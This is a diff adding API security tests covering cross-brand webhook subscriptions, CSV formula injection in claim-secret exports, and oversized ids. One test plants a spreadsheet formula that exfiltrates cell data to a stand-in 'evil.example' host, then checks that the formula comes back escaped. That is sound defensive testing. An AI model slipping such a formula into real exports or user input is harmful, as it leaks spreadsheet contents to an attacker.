@@ -1,0 +1,55 @@
+"""Smaller holes, each tried as an attacker would: another brand's collection in a webhook, a formula
+in a twin's name reaching the brand's spreadsheet, ids beyond 64 bits."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from tests.api.conftest import Stack, physical
+
+TOO_BIG = str(2**64)
+
+
+def test_a_brand_cannot_subscribe_to_another_brands_collection(stack: Stack) -> None:
+    mine, my_collection = stack.new_brand("Hook Own", "HKO")
+    _, their_collection = stack.new_brand("Hook Other", "HKT")
+    body = {"url": "https://example.com/hook", "event_types": ["transferred"]}
+    r = stack.client.post("/v1/webhooks", json=body | {"collection": their_collection}, headers=mine)
+    assert r.status_code == 404, r.text
+    assert r.json()["type"].endswith("/not-found")
+    assert stack.client.get("/v1/webhooks", headers=mine).json()["webhooks"] == []
+    r = stack.client.post("/v1/webhooks", json=body | {"collection": my_collection}, headers=mine)
+    assert r.status_code == 201, r.text
+
+
+def test_claim_secret_csv_neutralises_spreadsheet_formulas(stack: Stack) -> None:
+    headers, _ = stack.new_brand("Formula House", "FRM")
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    twin = physical("F-1") | {"name": evil, "claimable": True}
+    job = stack.wait_job(headers, stack.client.post("/v1/twins", json=twin, headers=headers).json()["id"])
+    r = stack.client.get(f"/v1/jobs/{job['id']}/claim-secrets", params={"format": "csv"}, headers=headers)
+    assert r.status_code == 200, r.text
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert rows[0]["name"] == "'" + evil  # shown as text, never run
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        f"/v1/verify/0x{'11' * 20}/{TOO_BIG}",
+        f"/v1/twins/0x{'11' * 20}/{TOO_BIG}",
+        f"/v1/twins/0x{'11' * 20}/{TOO_BIG}/provenance",
+        f"/v1/twins/0x{'11' * 20}/{TOO_BIG}/transfers/typed-data?to=0x{'22' * 20}",
+        f"/v1/jobs/some-job?offset={TOO_BIG}",
+        f"/v1/events/stream?after={TOO_BIG}",
+    ],
+)
+def test_out_of_range_ids_are_invalid_input_not_a_crash(stack: Stack, path: str) -> None:
+    headers, _ = stack.new_brand(f"Range {abs(hash(path)) % 10**6}", "RNG")
+    r = stack.client.get(path, headers=headers)
+    assert r.status_code == 422, (r.status_code, r.text)
+    assert r.headers["content-type"] == "application/problem+json"
